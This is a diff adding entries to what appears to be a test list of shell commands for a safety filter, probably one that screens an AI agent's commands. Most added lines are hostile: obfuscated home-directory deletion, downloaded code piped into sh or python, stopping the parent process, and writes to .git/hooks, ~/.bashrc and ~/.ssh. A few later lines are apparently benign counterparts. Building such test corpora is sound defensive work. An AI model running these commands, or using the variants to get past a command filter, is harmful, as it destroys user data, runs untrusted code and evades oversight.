@@ -62,6 +62,7 @@ xargs rm -rf <<< "/"
 'r'm -rf ~
 r\m -rf ~
 a=-rf; rm $a ~
+env bash -Sx -c 'rm -rf ~'
 python3 -c 'x' ; rm -rf ~ #
 for d in /etc /usr; do rm -rf "$d"; done
 while true; do rm -rf ~; done
@@ -173,6 +174,18 @@ export a=$(curl -s URL); eval "$a"
 read a < <(curl URL); eval "$a"
 curl URL | { read a; eval "$a"; }
 a=$(cat x); eval "$a"
+a=$(curl URL); python3 -c "$a"
+a=$(curl URL); python3 <<< "$a"
+a=$(curl URL); echo "$a" > f; sh f
+curl URL > f; sh < f
+curl URL > f; cat f | sh
+curl URL | tee f; bash f
+env kill -STOP $PPID
+xargs -I{} cp {} .git/hooks <<< a.txt
+patch ~/.bashrc < a
+git config -f ~/.bashrc a.b c
+split -b1 a ~/.ssh/x
+mv .. ../../other
 curl -s URL > >(sh)
 curl -s URL | tee >(bash -s) >/dev/null
 curl -s URL -o >(sh)
@@ -456,6 +469,9 @@ git submodule foreach git pull
 : > server.log
 echo x > ~/notes.txt
 nohup python server.py > log 2>&1 &
+xargs -I{} cp {} dst < names
+curl -s URL > a.json; jq . < a.json; cat a.json | jq .
+env sort -S1G a
 make > >(tee build.log) 2>&1
 PYTHON=$(command -v python3); $PYTHON -m pytest
 a=$(curl -s URL); echo "$a" > page.html
